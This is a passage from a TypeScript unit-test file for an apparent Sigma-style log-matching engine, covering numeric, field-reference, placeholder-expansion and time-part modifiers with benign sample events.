  it('handles decimals and negatives, ignores non-numeric fields', () => {
    expect(matches('Score|gt', 0.5, { Score: 0.75 })).toBe(true);
    expect(matches('Score|lt', -1, { Score: '-2' })).toBe(true);
    expect(matches('Score|gt', 1, { Score: 'many' })).toBe(false);
    expect(matches('Score|gt', 1, { Score: '' })).toBe(false);
    expect(matches('Score|gt', 1, {})).toBe(false);
  });

  it('needs numeric rule values', () => {
    expect(rejection('Size|gt', 'big')).toBe('invalid_value');
  });
});

describe('fieldref', () => {
  it('compares two fields of the event', () => {
    expect(matches('TargetUserName|fieldref', 'SubjectUserName', { TargetUserName: 'Bob', SubjectUserName: 'bob' })).toBe(true);
    expect(matches('TargetUserName|fieldref', 'SubjectUserName', { TargetUserName: 'bob', SubjectUserName: 'alice' })).toBe(false);
    expect(matches('TargetUserName|fieldref', 'SubjectUserName', { TargetUserName: 'bob' })).toBe(false);
    expect(matches('TargetUserName|fieldref|cased', 'SubjectUserName', { TargetUserName: 'Bob', SubjectUserName: 'bob' })).toBe(false);
  });

  it('with neq: the fields differ', () => {
    expect(matches('TargetUserName|fieldref|neq', 'SubjectUserName', { TargetUserName: 'bob', SubjectUserName: 'alice' })).toBe(true);
    expect(matches('TargetUserName|fieldref|neq', 'SubjectUserName', { TargetUserName: 'bob', SubjectUserName: 'BOB' })).toBe(false);
  });

  it('compares numbers with strings', () => {
    expect(matches('SourcePort|fieldref', 'DestinationPort', { SourcePort: 445, DestinationPort: '445' })).toBe(true);
  });

  it('needs a field', () => {
    expect(rejection('|fieldref', 'x')).toBe('invalid_modifiers');
  });
});

describe('expand', () => {
  const ctx: CompileContext = { placeholders: { Administrators: ['admin', 'root*'], Servers: ['srv01', 'srv02'] } };

  it('replaces a placeholder with its values, ORed, wildcards included', () => {
    expect(matches('User|expand', '%Administrators%', { User: 'ADMIN' }, ctx)).toBe(true);
    expect(matches('User|expand', '%Administrators%', { User: 'root2' }, ctx)).toBe(true);
    expect(matches('User|expand', '%Administrators%', { User: 'bob' }, ctx)).toBe(false);
  });

  it('expands inside a longer value and combines several placeholders', () => {
    expect(matches('Target|expand', '%Administrators%@%Servers%', { Target: 'admin@srv02' }, ctx)).toBe(true);
    expect(matches('Target|expand', '%Administrators%@%Servers%', { Target: 'admin@srv03' }, ctx)).toBe(false);
    expect(matches('Target|expand|contains', '\\%Servers%', { Target: 'share \\srv01\\c$' }, ctx)).toBe(false);
  });

  it('leaves %name% literal without expand', () => {
    expect(matches('User', '%Administrators%', { User: '%Administrators%' }, ctx)).toBe(true);
    expect(matches('User', '%Administrators%', { User: 'admin' }, ctx)).toBe(false);
  });

  it('handles an escaped percent as plain text (spec: \\%plain%name%)', () => {
    expect(matches('F|expand', '\\%plain%Servers%', { F: '%plainsrv01' }, ctx)).toBe(true);
    expect(matches('F|expand', '\\%plain%Servers%', { F: '\\%plainsrv01' }, ctx)).toBe(false);
  });

  it('rejects a placeholder without values', () => {
    expect(rejection('User|expand', '%DomainControllers%', ctx)).toBe('unknown_placeholder');
    expect(rejection('User|expand', '%Administrators%')).toBe('unknown_placeholder');
    expect(rejection('User|expand', '%Empty%', { placeholders: { Empty: [] } })).toBe('unknown_placeholder');
  });
});

describe('time modifiers', () => {
  const doc = { UtcTime: '2024-03-05T14:37:09Z' };

  it.each([
    ['minute', 37],
    ['hour', 14],
    ['day', 5],
    ['week', 10],
    ['month', 3],
    ['year', 2024],
  ] as const)('%s extracts %d', (part, value) => {
    expect(matches(`UtcTime|${part}`, value, doc)).toBe(true);
    expect(matches(`UtcTime|${part}`, value + 1, doc)).toBe(false);
  });

  it('combines with comparisons and neq', () => {
    expect(matches('UtcTime|hour|gte', 12, doc)).toBe(true);
    expect(matches('UtcTime|hour|lt', 6, doc)).toBe(false);
    expect(matches('UtcTime|hour|neq', 14, doc)).toBe(false);
    expect(matches('UtcTime|hour|neq', 3, doc)).toBe(true);
    expect(matches('UtcTime|hour', [1, 2, 14], doc)).toBe(true);
  });

  it('uses ISO week numbers', () => {
    expect(matches('T|week', 1, { T: '2024-01-01T00:00:00Z' })).toBe(true);
    expect(matches('T|week', 53, { T: '2021-01-01T00:00:00Z' })).toBe(true);
    expect(matches('T|week', 52, { T: '2023-12-31T00:00:00Z' })).toBe(true);
  });

  it('does not match unparseable dates', () => {
    expect(matches('T|hour', 1, { T: 'yesterday' })).toBe(false);
    expect(rejection('T|hour', 'one')).toBe('invalid_value');
  });
});

describe('modifier validation', () => {
  it('rejects unknown modifiers', () => {
    expect(rejection('F|containz', 'x')).toBe('unsupported_modifier');
    expect(rejection('|foo', ['x'])).toBe('unsupported_modifier');
  });
});

describe('textForms', () => {
  it('turns scalars, arrays and objects into text', () => {
    expect(textForms(undefined)).toBeNull();
    expect(textForms(null)).toBeNull();
    expect(textForms(12)).toEqual(['12']);
    expect(textForms([1, null, 'a'])).toEqual(['1', 'a']);
    expect(textForms({ a: 1 })).toEqual(['{"a":1}']);
  });
});
